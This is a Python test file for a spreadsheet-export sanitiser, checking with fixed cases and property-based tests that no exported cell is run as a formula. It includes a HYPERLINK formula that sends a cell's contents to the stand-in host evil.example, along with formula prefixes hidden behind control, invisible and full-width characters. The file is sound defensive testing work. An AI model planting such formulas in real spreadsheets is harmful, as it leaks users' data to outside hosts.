"""The one rule of every export: no cell a spreadsheet would run as a formula."""

import io
import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from gfmd.spreadsheets import append_row, neutralise
from gfmd.tests.hostile import hostile_text, spreadsheet_would_evaluate

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Details")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        # The case: the control character used to be removed after the check.
        ("\x01" + HYPERLINK, "'" + HYPERLINK),
        ("\x7f+1", "'+1"),
        ("\x85@SUM(A1)", "'@SUM(A1)"),
        ("\x00\x1f-2", "'-2"),
        # Behind whitespace and invisible characters, kept as typed after the apostrophe.
        (" =1+2", "' =1+2"),
        ("\u00a0\u3000=1+2", "'\u00a0\u3000=1+2"),
        ("\u200b=1+2", "'\u200b=1+2"),
        ("\ufeff@SUM(A1)", "'\ufeff@SUM(A1)"),
        ("\u202e=1", "'\u202e=1"),
        ("\n=1", "'\n=1"),
        # A tab or a carriage return first, whatever follows.
        ("\tTab", "'\tTab"),
        ("\rReturn", "'\rReturn"),
        # Full-width, small, superscript and subscript forms, and the minus sign.
        ("＝1+2", "'＝1+2"),
        ("＋33 1 23", "'＋33 1 23"),
        ("－1", "'－1"),
        ("＠SUM(A1)", "'＠SUM(A1)"),
        ("\ufe66cmd", "'\ufe66cmd"),
        ("\u207a1", "'\u207a1"),
        ("\u208c1", "'\u208c1"),
        ("\u2a75A1", "'\u2a75A1"),
        ("\u22121", "'\u22121"),
        # What XML cannot hold goes wherever it is.
        ("a\x01b\ufffec\uffff", "abc"),
        ("text\ud800", "text"),
    ],
)
def test_neutralise_hostile_starts(value, expected):
    assert neutralise(value) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("Ana María", "Ana María"),
        ("a=b", "a=b"),
        ("\nLine", "\nLine"),
        (" Padded", " Padded"),
        ("– en dash", "– en dash"),
        ("'quoted", "'quoted"),
        ("", ""),
        (None, ""),
        (-5, -5),
        (4.5, 4.5),
    ],
)
def test_neutralise_leaves_harmless_values_alone(value, expected):
    assert neutralise(value) == expected


@settings(max_examples=300, deadline=None)
@given(hostile_text(max_size=60))
def test_no_neutralised_text_is_a_formula(text):
    cell = neutralise(text)
    assert not spreadsheet_would_evaluate(cell)
    assert neutralise(cell) == cell
    # Nothing else changes: only what XML cannot hold goes, and the apostrophe only when needed.
    kept = "".join(
        char for char in text if char in "\t\n\r" or (unicodedata.category(char) != "Cc" and char not in "\ufffe\uffff")
    )
    assert cell == ("'" + kept if spreadsheet_would_evaluate(kept) else kept)


@settings(max_examples=100, deadline=None)
@given(st.lists(st.one_of(hostile_text(max_size=30), st.integers(), st.none()), min_size=1, max_size=6))
def test_xlsx_rows_never_hold_a_formula(values):
    workbook = Workbook()
    append_row(workbook.active, values)
    buffer = io.BytesIO()
    workbook.save(buffer)

    (cells,) = load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows()
    assert all(cell.data_type != "f" for cell in cells)
    assert not any(spreadsheet_would_evaluate(cell.value) for cell in cells)
    texts = [neutralise(value) for value in values if isinstance(value, str) and neutralise(value)]
    assert [cell.value for cell in cells if isinstance(cell.value, str)] == texts


def test_xlsx_text_that_spells_an_error_code_stays_text():
    workbook = Workbook()
    append_row(workbook.active, ["#N/A", "=1"])
    assert [cell.data_type for cell in workbook.active[1]] == ["s", "s"]
